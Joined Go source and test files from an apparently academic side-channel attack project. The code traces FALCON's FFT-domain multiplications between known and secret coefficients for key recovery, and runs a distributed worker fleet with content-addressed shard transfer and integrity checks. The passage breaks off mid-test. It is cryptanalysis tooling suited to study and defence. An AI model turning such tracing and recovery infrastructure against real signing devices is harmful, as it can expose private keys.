// which is the operation attacked by the paper: each complex product costs
// four real floating-point multiplications between known and secret
// coefficients.
//
// The package also provides the split/merge operations (the FFT analogues of
// extracting even/odd sub-polynomials) required by FALCON's ffLDL tree and
// ffSampling.
package fft

import (
	"math"
	"sync"

	"falcondown/internal/fpr"
)

// Cplx is a complex number over the emulated floating-point type.
type Cplx struct {
	Re, Im fpr.FPR
}

// FromComplex converts a hardware complex128.
func FromComplex(z complex128) Cplx {
	return Cplx{fpr.FromFloat64(real(z)), fpr.FromFloat64(imag(z))}
}

// Complex converts to a hardware complex128.
func (z Cplx) Complex() complex128 {
	return complex(z.Re.Float64(), z.Im.Float64())
}

// Conj returns the complex conjugate.
func (z Cplx) Conj() Cplx { return Cplx{z.Re, fpr.Neg(z.Im)} }

// Neg returns -z.
func (z Cplx) Neg() Cplx { return Cplx{fpr.Neg(z.Re), fpr.Neg(z.Im)} }

// Add returns z+w.
func (z Cplx) Add(w Cplx) Cplx {
	return Cplx{fpr.Add(z.Re, w.Re), fpr.Add(z.Im, w.Im)}
}

// Sub returns z-w.
func (z Cplx) Sub(w Cplx) Cplx {
	return Cplx{fpr.Sub(z.Re, w.Re), fpr.Sub(z.Im, w.Im)}
}

// Mul returns z*w.
func (z Cplx) Mul(w Cplx) Cplx { return MulTraced(z, w, nil) }

// MulTraced returns known*secret while reporting the four real
// multiplications and combining additions of the schoolbook complex product
// to rec. The first operand is by convention the adversary-known value (the
// hashed-message coefficient); the second is the secret key coefficient, so
// the recorded partial products carry the paper's (A,B)×(C,D) roles.
func MulTraced(known, secret Cplx, rec fpr.Recorder) Cplx {
	ac := fpr.MulTraced(known.Re, secret.Re, rec)
	bd := fpr.MulTraced(known.Im, secret.Im, rec)
	ad := fpr.MulTraced(known.Re, secret.Im, rec)
	bc := fpr.MulTraced(known.Im, secret.Re, rec)
	return Cplx{fpr.SubTraced(ac, bd, rec), fpr.AddTraced(ad, bc, rec)}
}

// SqNorm returns |z|² as a real value.
func (z Cplx) SqNorm() fpr.FPR {
	return fpr.Add(fpr.Mul(z.Re, z.Re), fpr.Mul(z.Im, z.Im))
}

// Div returns z/w.
func (z Cplx) Div(w Cplx) Cplx {
	d := w.SqNorm()
	num := z.Mul(w.Conj())
	return Cplx{fpr.Div(num.Re, d), fpr.Div(num.Im, d)}
}

// Inv returns 1/z.
func (z Cplx) Inv() Cplx {
	d := z.SqNorm()
	return Cplx{fpr.Div(z.Re, d), fpr.Div(fpr.Neg(z.Im), d)}
}

// Scale returns z*s for a real scale factor s.
func (z Cplx) Scale(s fpr.FPR) Cplx {
	return Cplx{fpr.Mul(z.Re, s), fpr.Mul(z.Im, s)}
}

// Half returns z/2 exactly.
func (z Cplx) Half() Cplx { return Cplx{fpr.Half2(z.Re), fpr.Half2(z.Im)} }

// rootsCache memoizes the n/2 principal roots of x^n+1 per polynomial size.
var rootsCache sync.Map // int -> []Cplx

// Roots returns the n/2 roots w_k = exp(iπ(2k+1)/n), k = 0..n/2-1, of
// x^n+1 lying in the upper half plane. n must be a power of two >= 2.
func Roots(n int) []Cplx {
	if v, ok := rootsCache.Load(n); ok {
		return v.([]Cplx)
	}
	r := make([]Cplx, n/2)
	for k := range r {
		ang := math.Pi * float64(2*k+1) / float64(n)
		r[k] = Cplx{fpr.FromFloat64(math.Cos(ang)), fpr.FromFloat64(math.Sin(ang))}
	}
	rootsCache.Store(n, r)
	return r
}

// FFT evaluates the real polynomial f (len n, a power of two >= 2) at the
// n/2 principal roots of x^n+1 and returns the evaluations in natural order.
func FFT(f []fpr.FPR) []Cplx {
	n := len(f)
	if n == 2 {
		return []Cplx{{f[0], f[1]}}
	}
	hn := n / 2
	qn := n / 4
	fe := make([]fpr.FPR, hn)
	fo := make([]fpr.FPR, hn)
	for i := 0; i < hn; i++ {
		fe[i] = f[2*i]
		fo[i] = f[2*i+1]
	}
	e := FFT(fe)
	o := FFT(fo)
	w := Roots(n)
	out := make([]Cplx, hn)
	for k := 0; k < hn; k++ {
		var ek, ok Cplx
		if k < qn {
			ek, ok = e[k], o[k]
		} else {
			// w_k² is the conjugate of the (n/2-1-k)-th half-size root.
			j := hn - 1 - k
			ek, ok = e[j].Conj(), o[j].Conj()
		}
		out[k] = ek.Add(w[k].Mul(ok))
	}
	return out
}

// InvFFT inverts FFT: given the n/2 evaluations of a real polynomial of
// size n = 2*len(F), it returns the polynomial's coefficients.
func InvFFT(F []Cplx) []fpr.FPR {
	hn := len(F)
	n := 2 * hn
	if n == 2 {
		return []fpr.FPR{F[0].Re, F[0].Im}
	}
	e, o := Split(F)
	fe := InvFFT(e)
	fo := InvFFT(o)
	f := make([]fpr.FPR, n)
	for i := 0; i < hn; i++ {
		f[2*i] = fe[i]
		f[2*i+1] = fo[i]
	}
	return f
}

// Split decomposes the FFT representation of a size-n polynomial f into the
// FFT representations of its even and odd sub-polynomials f0, f1 with
// f(x) = f0(x²) + x·f1(x²) (FALCON's poly_split_fft).
func Split(F []Cplx) (F0, F1 []Cplx) {
	hn := len(F)
	n := 2 * hn
	qn := hn / 2
	w := Roots(n)
	F0 = make([]Cplx, qn)
	F1 = make([]Cplx, qn)
	for k := 0; k < qn; k++ {
		a := F[k]
		b := F[hn-1-k].Conj()
		F0[k] = a.Add(b).Half()
		F1[k] = a.Sub(b).Mul(w[k].Conj()).Half()
	}
	return F0, F1
}

// Merge is the inverse of Split (FALCON's poly_merge_fft): it reassembles
// the FFT representation of f from those of its even/odd halves.
func Merge(F0, F1 []Cplx) []Cplx {
	qn := len(F0)
	hn := 2 * qn
	n := 2 * hn
	w := Roots(n)
	F := make([]Cplx, hn)
	for k := 0; k < hn; k++ {
		var ek, ok Cplx
		if k < qn {
			ek, ok = F0[k], F1[k]
		} else {
			j := hn - 1 - k
			ek, ok = F0[j].Conj(), F1[j].Conj()
		}
		F[k] = ek.Add(w[k].Mul(ok))
	}
	return F
}
