package fft

import (
	"math"
	"math/cmplx"
	"math/rand"
	"testing"

	"falcondown/internal/fpr"
)

// oracleFFT evaluates f at the principal roots with hardware complex128
// arithmetic, by direct O(n²) evaluation.
func oracleFFT(f []float64) []complex128 {
	n := len(f)
	out := make([]complex128, n/2)
	for k := 0; k < n/2; k++ {
		ang := math.Pi * float64(2*k+1) / float64(n)
		w := cmplx.Exp(complex(0, ang))
		var acc complex128
		for i := n - 1; i >= 0; i-- {
			acc = acc*w + complex(f[i], 0)
		}
		out[k] = acc
	}
	return out
}

func randPoly(r *rand.Rand, n int) ([]fpr.FPR, []float64) {
	f := make([]fpr.FPR, n)
	fv := make([]float64, n)
	for i := range f {
		v := float64(r.Intn(255) - 127)
		f[i] = fpr.FromFloat64(v)
		fv[i] = v
	}
	return f, fv
}

func TestFFTMatchesOracle(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	for _, n := range []int{2, 4, 8, 16, 32, 64, 128, 512} {
		f, fv := randPoly(r, n)
		got := FFT(f)
		want := oracleFFT(fv)
		for k := range got {
			g := got[k].Complex()
			// The oracle accumulates error too: allow a relative tolerance.
			if cmplx.Abs(g-want[k]) > 1e-6*(1+cmplx.Abs(want[k])) {
				t.Fatalf("n=%d k=%d: got %v, want %v", n, k, g, want[k])
			}
		}
	}
}

func TestFFTInverseRoundTrip(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	for _, n := range []int{2, 4, 8, 64, 256, 1024} {
		f, fv := randPoly(r, n)
		back := InvFFT(FFT(f))
		for i := range back {
			if math.Abs(back[i].Float64()-fv[i]) > 1e-7 {
				t.Fatalf("n=%d i=%d: %v != %v", n, i, back[i].Float64(), fv[i])
			}
		}
	}
}

func TestRoundTripExactIntegers(t *testing.T) {
	// Integer polynomials in FALCON's coefficient range must round-trip to
	// the exact integers after rounding — the property the key-recovery
	// step depends on.
	r := rand.New(rand.NewSource(3))
	for _, n := range []int{8, 128, 512} {
		fi := make([]int16, n)
		for i := range fi {
			fi[i] = int16(r.Intn(255) - 127)
		}
		got := RoundToInt16(FFTInt16(fi))
		for i := range fi {
			if got[i] != fi[i] {
				t.Fatalf("n=%d i=%d: %d != %d", n, i, got[i], fi[i])
			}
		}
	}
}

func TestMulVecIsConvolution(t *testing.T) {
	// FFT-domain pointwise multiplication must equal negacyclic convolution.
	r := rand.New(rand.NewSource(4))
	for _, n := range []int{4, 16, 64} {
		a := make([]int16, n)
		b := make([]int16, n)
		for i := 0; i < n; i++ {
			a[i] = int16(r.Intn(21) - 10)
			b[i] = int16(r.Intn(21) - 10)
		}
		want := make([]int64, n)
		for i := 0; i < n; i++ {
			for j := 0; j < n; j++ {
				p := int64(a[i]) * int64(b[j])
				k := i + j
				if k >= n {
					want[k-n] -= p
				} else {
					want[k] += p
				}
			}
		}
		prod := InvFFT(MulVec(FFTInt16(a), FFTInt16(b)))
		for i := range prod {
			if got := fpr.Rint(prod[i]); got != want[i] {
				t.Fatalf("n=%d i=%d: %d != %d", n, i, got, want[i])
			}
		}
	}
}

func TestSplitMergeIdentity(t *testing.T) {
	r := rand.New(rand.NewSource(5))
	for _, n := range []int{4, 16, 256} {
		f, _ := randPoly(r, n)
		F := FFT(f)
		F0, F1 := Split(F)
		back := Merge(F0, F1)
		for k := range F {
			if math.Abs(back[k].Re.Float64()-F[k].Re.Float64()) > 1e-8 ||
				math.Abs(back[k].Im.Float64()-F[k].Im.Float64()) > 1e-8 {
				t.Fatalf("n=%d k=%d: merge(split) mismatch", n, k)
			}
		}
	}
}

func TestSplitMatchesSubPolynomials(t *testing.T) {
	// Split(FFT(f)) must equal (FFT(f_even), FFT(f_odd)).
	r := rand.New(rand.NewSource(6))
	n := 32
	f, _ := randPoly(r, n)
	fe := make([]fpr.FPR, n/2)
	fo := make([]fpr.FPR, n/2)
	for i := 0; i < n/2; i++ {
		fe[i], fo[i] = f[2*i], f[2*i+1]
	}
	F0, F1 := Split(FFT(f))
	E, O := FFT(fe), FFT(fo)
	for k := range F0 {
		if cmplx.Abs(F0[k].Complex()-E[k].Complex()) > 1e-8 {
			t.Fatalf("even k=%d: %v != %v", k, F0[k].Complex(), E[k].Complex())
		}
		if cmplx.Abs(F1[k].Complex()-O[k].Complex()) > 1e-8 {
			t.Fatalf("odd k=%d: %v != %v", k, F1[k].Complex(), O[k].Complex())
		}
	}
}

func TestAdjVec(t *testing.T) {
	// adj(f) evaluated at w is conj(f(w)) for real f.
	r := rand.New(rand.NewSource(7))
	f, _ := randPoly(r, 16)
	F := FFT(f)
	A := AdjVec(F)
	for k := range F {
		if A[k].Complex() != cmplx.Conj(F[k].Complex()) {
			t.Fatalf("adj mismatch at %d", k)
		}
	}
}

func TestComplexAlgebra(t *testing.T) {
	z := FromComplex(complex(3, -4))
	w := FromComplex(complex(-1, 2))
	check := func(name string, got Cplx, want complex128) {
		t.Helper()
		if cmplx.Abs(got.Complex()-want) > 1e-12 {
			t.Errorf("%s = %v, want %v", name, got.Complex(), want)
		}
	}
	check("add", z.Add(w), complex(2, -2))
	check("sub", z.Sub(w), complex(4, -6))
	check("mul", z.Mul(w), complex(3, -4)*complex(-1, 2))
	check("div", z.Div(w), complex(3, -4)/complex(-1, 2))
	check("inv", z.Inv(), 1/complex(3, -4))
	check("neg", z.Neg(), complex(-3, 4))
	check("conj", z.Conj(), complex(3, 4))
	check("half", z.Half(), complex(1.5, -2))
	check("scale", z.Scale(fpr.Two), complex(6, -8))
	if got := z.SqNorm().Float64(); got != 25 {
		t.Errorf("sqnorm = %v", got)
	}
}

func TestVectorOps(t *testing.T) {
	r := rand.New(rand.NewSource(8))
	n := 16
	a, _ := randPoly(r, n)
	b, _ := randPoly(r, n)
	A, B := FFT(a), FFT(b)
	sum := AddVec(A, B)
	diff := SubVec(A, B)
	for k := range A {
		if cmplx.Abs(sum[k].Complex()-(A[k].Complex()+B[k].Complex())) > 1e-9 {
			t.Fatalf("AddVec mismatch at %d", k)
		}
		if cmplx.Abs(diff[k].Complex()-(A[k].Complex()-B[k].Complex())) > 1e-9 {
			t.Fatalf("SubVec mismatch at %d", k)
		}
	}
	nv := NegVec(A)
	for k := range A {
		if nv[k] != A[k].Neg() {
			t.Fatalf("NegVec mismatch at %d", k)
		}
	}
	dv := DivVec(MulVec(A, B), B)
	for k := range A {
		if cmplx.Abs(dv[k].Complex()-A[k].Complex()) > 1e-6*(1+cmplx.Abs(A[k].Complex())) {
			t.Fatalf("DivVec(Mul) != identity at %d", k)
		}
	}
	sv := ScaleVec(A, fpr.Half)
	for k := range A {
		if cmplx.Abs(sv[k].Complex()-A[k].Complex()/2) > 1e-9 {
			t.Fatalf("ScaleVec mismatch at %d", k)
		}
	}
	ms := MulAdjSelf(A)
	for k := range A {
		want := A[k].Complex() * cmplx.Conj(A[k].Complex())
		if math.Abs(ms[k].Re.Float64()-real(want)) > 1e-6*(1+math.Abs(real(want))) || ms[k].Im != fpr.Zero {
			t.Fatalf("MulAdjSelf mismatch at %d", k)
		}
	}
}

func TestMulVecTracedRecords(t *testing.T) {
	var rec fpr.SliceRecorder
	r := rand.New(rand.NewSource(9))
	n := 8
	a, _ := randPoly(r, n)
	b, _ := randPoly(r, n)
	A, B := FFT(a), FFT(b)
	got := MulVecTraced(A, B, &rec)
	want := MulVec(A, B)
	for k := range got {
		if got[k] != want[k] {
			t.Fatalf("traced product diverges at %d", k)
		}
	}
	if rec.Len() == 0 {
		t.Fatal("nothing recorded")
	}
	// Each complex coefficient contributes 4 traced multiplies; count the
	// B×D partial-product records.
	var ll int
	for _, op := range rec.Ops {
		if op == fpr.OpMulLL {
			ll++
		}
	}
	if ll != 4*n/2 {
		t.Fatalf("got %d B×D records, want %d", ll, 4*n/2)
	}
}

func TestRootsProperties(t *testing.T) {
	for _, n := range []int{2, 4, 16, 1024} {
		w := Roots(n)
		if len(w) != n/2 {
			t.Fatalf("n=%d: %d roots", n, len(w))
		}
		for k, z := range w {
			// Each root must satisfy z^n = -1.
			p := complex(1, 0)
			for i := 0; i < n; i++ {
				p *= z.Complex()
			}
			if cmplx.Abs(p-complex(-1, 0)) > 1e-9 {
				t.Fatalf("n=%d k=%d: z^n = %v", n, k, p)
			}
			if z.Im.Sign() == 1 {
				t.Fatalf("n=%d k=%d: root in lower half plane", n, k)
			}
		}
	}
}

func BenchmarkFFT512(b *testing.B) {
	r := rand.New(rand.NewSource(10))
	f, _ := randPoly(r, 512)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		FFT(f)
	}
}

func BenchmarkMulVec512(b *testing.B) {
	r := rand.New(rand.NewSource(11))
	f, _ := randPoly(r, 512)
	g, _ := randPoly(r, 512)
	F, G := FFT(f), FFT(g)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		MulVec(F, G)
	}
}
