package cluster

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"os"
	"strings"
	"sync"

	"falcondown/internal/tracestore"
)

// Shard push. A worker whose replica is missing or divergent does not
// have to be fixed out of band: the coordinator exposes its own shard
// files by content digest, and the worker pulls the authoritative bytes.
// The transfer is belt-and-braces: a binary CRC-32C frame catches damage
// in flight cheaply, and the receiver re-derives the SHA-256 before
// trusting the bytes — the digest *is* the name, so a blob that hashes
// wrong is a protocol failure, not a corpus. This one mechanism repairs
// divergent replicas and lets a diskless worker (empty -root) join a
// fleet cold.

// maxBlobBytes bounds one shard transfer. Shard files are sized by the
// writer's ShardObs and stay far below this even at FALCON-1024 scale.
const maxBlobBytes = 1 << 30 // 1 GiB

// blobMagic heads every blob frame: magic | payloadLen u64 | crc32c u32.
const (
	blobMagic   = "FDB1"
	blobHdrSize = 16
)

// sealBlob frames raw shard bytes for the wire.
func sealBlob(payload []byte) []byte {
	hdr := make([]byte, blobHdrSize)
	copy(hdr, blobMagic)
	binary.LittleEndian.PutUint64(hdr[4:], uint64(len(payload)))
	binary.LittleEndian.PutUint32(hdr[12:], crc32.Checksum(payload, crcTable))
	return append(hdr, payload...)
}

// openBlob reads a framed blob of at most limit payload bytes, verifying
// the CRC before returning the payload.
func openBlob(r io.Reader, limit int64) ([]byte, error) {
	var hdr [blobHdrSize]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, errCorrupt{fmt.Errorf("blob header: %w", err)}
	}
	if string(hdr[:4]) != blobMagic {
		return nil, errCorrupt{fmt.Errorf("blob magic %q", hdr[:4])}
	}
	size := binary.LittleEndian.Uint64(hdr[4:])
	crc := binary.LittleEndian.Uint32(hdr[12:])
	if size > uint64(limit) {
		return nil, fmt.Errorf("cluster: blob of %d bytes exceeds the %d-byte limit", size, limit)
	}
	payload := make([]byte, size)
	if _, err := io.ReadFull(r, payload); err != nil {
		return nil, errCorrupt{fmt.Errorf("blob truncated: %w", err)}
	}
	if got := crc32.Checksum(payload, crcTable); got != crc {
		return nil, errCorrupt{fmt.Errorf("blob digest %08x, frame claims %08x", got, crc)}
	}
	return payload, nil
}

// BlobServer exposes corpus shard files by SHA-256 content digest —
// the coordinator side of shard push. Register is additive; one server
// can front every corpus a campaign server owns.
type BlobServer struct {
	mu    sync.Mutex
	paths map[string]string // lowercase hex sha256 -> shard file path
}

// NewBlobServer returns an empty blob registry.
func NewBlobServer() *BlobServer {
	return &BlobServer{paths: make(map[string]string)}
}

// Register hashes the corpus's shards (cached on the corpus) and makes
// each available by digest.
func (b *BlobServer) Register(c *tracestore.Corpus) error {
	man, err := c.Manifest()
	if err != nil {
		return err
	}
	paths := c.Paths()
	b.mu.Lock()
	defer b.mu.Unlock()
	for i, s := range man.Shards {
		b.paths[s.SHA256] = paths[i]
	}
	return nil
}

// Handler returns the blob HTTP surface: GET /blob/{digest}.
func (b *BlobServer) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/blob/", b.handleBlob)
	return mux
}

func (b *BlobServer) handleBlob(rw http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodGet {
		http.Error(rw, "GET only", http.StatusMethodNotAllowed)
		return
	}
	digest := strings.ToLower(strings.TrimPrefix(r.URL.Path, "/blob/"))
	if len(digest) != 2*sha256.Size || strings.ContainsAny(digest, "/.") {
		http.Error(rw, "malformed digest", http.StatusBadRequest)
		return
	}
	b.mu.Lock()
	path, ok := b.paths[digest]
	b.mu.Unlock()
	if !ok {
		http.Error(rw, "unknown blob "+digest, http.StatusNotFound)
		return
	}
	payload, err := os.ReadFile(path)
	if err != nil {
		http.Error(rw, err.Error(), http.StatusInternalServerError)
		return
	}
	// The registry maps digest -> path, but the file may have been
	// rewritten since registration; never serve bytes that no longer
	// match their name.
	if got := hex.EncodeToString(sum256(payload)); got != digest {
		http.Error(rw, fmt.Sprintf("blob %s now hashes to %s on disk", digest, got), http.StatusConflict)
		return
	}
	rw.Header().Set("Content-Type", "application/octet-stream")
	rw.Write(sealBlob(payload))
}

func sum256(b []byte) []byte {
	h := sha256.Sum256(b)
	return h[:]
}

// fetchBlob pulls one shard by digest from a coordinator's blob service
// and verifies it end to end: CRC frame first (cheap, catches transit
// damage), then the SHA-256 that names it.
func fetchBlob(client *http.Client, baseURL, digest string) ([]byte, error) {
	resp, err := client.Get(strings.TrimRight(baseURL, "/") + "/blob/" + digest)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		msg, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return nil, fmt.Errorf("cluster: blob %s: %s: %s", digest, resp.Status, strings.TrimSpace(string(msg)))
	}
	payload, err := openBlob(resp.Body, maxBlobBytes)
	if err != nil {
		return nil, err
	}
	if got := hex.EncodeToString(sum256(payload)); got != digest {
		return nil, errCorrupt{fmt.Errorf("blob %s hashed to %s on receipt", digest, got)}
	}
	return payload, nil
}
