package cluster

import (
	"bytes"
	"errors"
	"strings"
	"testing"
)

// Edge cases of the two wire framings: the JSON envelope (task
// request/response) and the binary blob frame (shard push). The envelope
// tests complement TestFrameRejectsDamage's bit-flip sweep with the
// boundary conditions: oversize, empty payload, and truncation at every
// byte of the blob header.

func TestFrameOversizeRejectedBeforeDecode(t *testing.T) {
	// A frame one byte over the limit must be refused on size alone —
	// as a plain (non-retryable) error, not errCorrupt: nothing was
	// damaged, the peer sent something the protocol does not allow, and
	// retrying the same bytes cannot help.
	body, err := seal(map[string]string{"k": strings.Repeat("x", 1024)})
	if err != nil {
		t.Fatal(err)
	}
	var out map[string]string
	err = open(bytesReader(body), int64(len(body))-1, &out)
	if err == nil {
		t.Fatal("oversize frame accepted")
	}
	var corrupt errCorrupt
	if errors.As(err, &corrupt) {
		t.Fatalf("oversize classified as corrupt (retryable): %v", err)
	}
	if out != nil {
		t.Fatalf("oversize frame was decoded anyway: %v", out)
	}
	// Exactly at the limit is fine.
	if err := open(bytesReader(body), int64(len(body)), &out); err != nil {
		t.Fatalf("frame exactly at the limit rejected: %v", err)
	}
}

func TestFrameZeroLengthAndEmptyPayload(t *testing.T) {
	// A zero-byte body and an envelope with an empty payload are both
	// corrupt, never a zero value delivered as if the peer had sent one.
	var out struct{ A int }
	var corrupt errCorrupt
	if err := open(bytesReader(nil), maxFrameBytes, &out); err == nil || !errors.As(err, &corrupt) {
		t.Fatalf("zero-length body: got %v, want errCorrupt", err)
	}
	if err := open(bytesReader([]byte(`{"crc":0,"payload":null}`)), maxFrameBytes, &out); err == nil || !errors.As(err, &corrupt) {
		t.Fatalf("null payload: got %v, want errCorrupt", err)
	}
}

func TestBlobFrameRoundTripAndZeroPayload(t *testing.T) {
	payload := []byte("shard bytes")
	back, err := openBlob(bytes.NewReader(sealBlob(payload)), maxBlobBytes)
	if err != nil || !bytes.Equal(back, payload) {
		t.Fatalf("round trip: %v (%q)", err, back)
	}
	// A zero-length payload is legal and round-trips empty.
	back, err = openBlob(bytes.NewReader(sealBlob(nil)), maxBlobBytes)
	if err != nil || len(back) != 0 {
		t.Fatalf("zero payload: %v (%d bytes)", err, len(back))
	}
}

func TestBlobFrameTruncatedAtEveryHeaderByte(t *testing.T) {
	// Cut the stream at every boundary inside the 16-byte header (and at
	// every payload byte after it): each truncation must surface as
	// errCorrupt, never a short read folded into a smaller blob.
	framed := sealBlob([]byte("0123456789"))
	for cut := 0; cut < len(framed); cut++ {
		_, err := openBlob(bytes.NewReader(framed[:cut]), maxBlobBytes)
		var corrupt errCorrupt
		if err == nil || !errors.As(err, &corrupt) {
			t.Fatalf("truncation at byte %d: got %v, want errCorrupt", cut, err)
		}
	}
}

func TestBlobFrameRejectsBadMagicSizeAndCRC(t *testing.T) {
	framed := sealBlob([]byte("0123456789"))
	var corrupt errCorrupt

	bad := append([]byte(nil), framed...)
	bad[0] ^= 0xFF // magic
	if _, err := openBlob(bytes.NewReader(bad), maxBlobBytes); err == nil || !errors.As(err, &corrupt) {
		t.Fatalf("bad magic: got %v, want errCorrupt", err)
	}

	bad = append([]byte(nil), framed...)
	bad[len(bad)-1] ^= 0x01 // payload bit flip → CRC mismatch
	if _, err := openBlob(bytes.NewReader(bad), maxBlobBytes); err == nil || !errors.As(err, &corrupt) {
		t.Fatalf("payload flip: got %v, want errCorrupt", err)
	}

	// A claimed size beyond the limit is refused before any allocation —
	// a plain protocol error, not corruption.
	if _, err := openBlob(bytes.NewReader(framed), 4); err == nil || errors.As(err, &corrupt) {
		t.Fatalf("oversize blob: got %v, want a plain size error", err)
	}
}
