package cluster

import "falcondown/internal/obs"

// Passive observability taps over the fleet. Coordinator counters
// mirror the deterministic Report (which remains the source of truth
// for tests and the fleet-report line); worker counters expose the
// serving side. The RTT histogram is labeled per node so a slow or
// flaky worker stands out in one scrape.
var (
	mFleetPasses = obs.NewCounter("falcon_fleet_passes_total",
		"distributed sweep passes coordinated")
	mFleetTasks = obs.NewCounter("falcon_fleet_tasks_total",
		"shard-range tasks issued to the fleet (before retries)")
	mFleetRemote = obs.NewCounter("falcon_fleet_remote_total",
		"task blocks completed by remote workers")
	mFleetLocal = obs.NewCounter("falcon_fleet_local_total",
		"task blocks the coordinator computed locally after the ring failed")
	mFleetRetries = obs.NewCounter("falcon_fleet_retries_total",
		"task re-issues to the next ring node")
	mFleetHedges = obs.NewCounter("falcon_fleet_hedges_total",
		"hedged duplicate tasks launched against a slow node")
	mFleetLeaseExpiries = obs.NewCounter("falcon_fleet_lease_expiries_total",
		"task calls abandoned because the lease deadline passed")
	mFleetRejected = obs.NewCounter("falcon_fleet_rejected_partials_total",
		"partials rejected on digest, shape or cross-check grounds")
	mFleetDivergent = obs.NewCounter("falcon_fleet_divergent_total",
		"tasks refused by workers holding a divergent corpus replica")
	mFleetRepairs = obs.NewCounter("falcon_fleet_repairs_total",
		"shards pushed to workers by digest to repair divergent or missing replicas")
	mFleetCrossChecks = obs.NewCounter("falcon_fleet_crosschecks_total",
		"tasks double-issued to two ring nodes for cross-checking")
	mFleetMismatches = obs.NewCounter("falcon_fleet_crosscheck_mismatches_total",
		"cross-checked tasks whose duplicate partials disagreed")
	mFleetQuarantines = obs.NewCounter("falcon_fleet_quarantines_total",
		"nodes quarantined after contradicting the recomputed truth")
	mFleetSkips = obs.NewCounter("falcon_fleet_skips_total",
		"attempts skipped by an open breaker or a quarantined node")
	mFrameRejects = obs.NewCounter("falcon_fleet_frame_rejects_total",
		"protocol frames rejected on CRC or decode failure (either side)")
	mWorkerTasks = obs.NewCounter("falcon_worker_tasks_total",
		"tasks served by this clusterd process")
	mWorkerTaskSeconds = obs.NewHistogram("falcon_worker_task_seconds",
		"wall-clock of one served task (sweep included)", obs.DurationBuckets)
	mWorkerRepairs = obs.NewCounter("falcon_worker_repairs_total",
		"shards this worker fetched from the blob service by digest")
	mWorkerDivergent = obs.NewCounter("falcon_worker_divergent_rejects_total",
		"tasks this worker refused over a manifest mismatch")
)

// FleetHealth summarizes process-wide fleet counters for a daemon's
// healthz snapshot (campaignd -fleet reports quarantines through this).
func FleetHealth() map[string]int64 {
	return map[string]int64{
		"fleet_tasks":       mFleetTasks.Value(),
		"fleet_retries":     mFleetRetries.Value(),
		"fleet_repairs":     mFleetRepairs.Value(),
		"fleet_quarantines": mFleetQuarantines.Value(),
	}
}

// taskRTT returns the per-node round-trip histogram, creating it on
// first use. Node URLs are a small bounded set per campaign.
func taskRTT(node string) *obs.Histogram {
	return obs.NewHistogram("falcon_fleet_task_rtt_seconds",
		"coordinator-observed round-trip of one task call",
		obs.DurationBuckets, obs.Label{Name: "node", Value: node})
}
