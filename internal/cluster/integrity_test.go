package cluster

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/faultinject"
	"falcondown/internal/supervise"
	"falcondown/internal/tracestore"
)

// Fleet-integrity differential suite: content-addressed corpora, shard
// push and cross-checked partials, each proven byte-identical to the
// serial reference. A divergent replica carries well-formed wrong bytes —
// every CRC passes — so only the manifest pin (storage) and the
// cross-check (computation) stand between it and a silently wrong key.

// divergentRoot writes a subtly wrong replica of the fixture corpus into
// a fresh root: same campaign name, same shape, every checksum valid.
func divergentRoot(t *testing.T, f *fixture) string {
	t.Helper()
	src, err := tracestore.Open(filepath.Join(f.root, fixtureCorpus))
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	if err := faultinject.WriteDivergentReplica(src, filepath.Join(root, fixtureCorpus), 555, 0.25, tracestore.Options{}); err != nil {
		t.Fatal(err)
	}
	return root
}

// blobService serves the fixture's authoritative shards by content digest.
func blobService(t *testing.T, f *fixture) string {
	t.Helper()
	src, err := tracestore.Open(filepath.Join(f.root, fixtureCorpus))
	if err != nil {
		t.Fatal(err)
	}
	blobs := NewBlobServer()
	if err := blobs.Register(src); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(blobs.Handler())
	t.Cleanup(srv.Close)
	return srv.URL
}

func TestFleetRejectsDivergentReplica(t *testing.T) {
	// A worker whose replica was regenerated wrong must never contribute:
	// with no blob service to repair from, every task it is offered comes
	// back as a typed 409, the coordinator degrades to local compute, and
	// the result does not move a bit.
	f := campaign(t)
	wrong := httptest.NewServer(NewWorker(divergentRoot(t, f)).Handler())
	t.Cleanup(wrong.Close)

	c := New(Options{
		Workers:       []string{wrong.URL},
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		Retries:       1,
		Backoff:       time.Millisecond,
		Breaker:       supervise.BreakerConfig{Threshold: 1000},
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "divergent replica rejected", priv, rep, side)
	r := c.Report()
	if r.Divergent == 0 {
		t.Fatalf("report %+v: the divergent replica was never detected", r)
	}
	if r.Remote != 0 {
		t.Fatalf("report %+v: a divergent worker completed %d task(s)", r, r.Remote)
	}
	if r.Local != r.Tasks {
		t.Fatalf("report %+v: not every task degraded to local", r)
	}
}

func TestFleetRepairsDivergentReplicaByShardPush(t *testing.T) {
	// Same divergent worker, but the coordinator offers its blob service:
	// the worker detects the pin mismatch, pulls the authoritative shard,
	// verifies its digest, and serves every task from the repaired copy.
	f := campaign(t)
	root := divergentRoot(t, f)
	wrong := httptest.NewServer(NewWorker(root).Handler())
	t.Cleanup(wrong.Close)

	c := New(Options{
		Workers:       []string{wrong.URL},
		Corpus:        fixtureCorpus,
		BlobURL:       blobService(t, f),
		ShardsPerTask: 2,
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "repaired replica", priv, rep, side)
	r := c.Report()
	if r.Repairs == 0 {
		t.Fatalf("report %+v: no shard was ever repaired", r)
	}
	if r.Remote != r.Tasks {
		t.Fatalf("report %+v: repair did not restore full remote execution", r)
	}
	if r.Divergent != 0 {
		t.Fatalf("report %+v: a task was rejected despite the blob service", r)
	}
	// The repair landed in the worker's blob cache, digest-named.
	entries, err := os.ReadDir(filepath.Join(root, ".blobcache"))
	if err != nil || len(entries) == 0 {
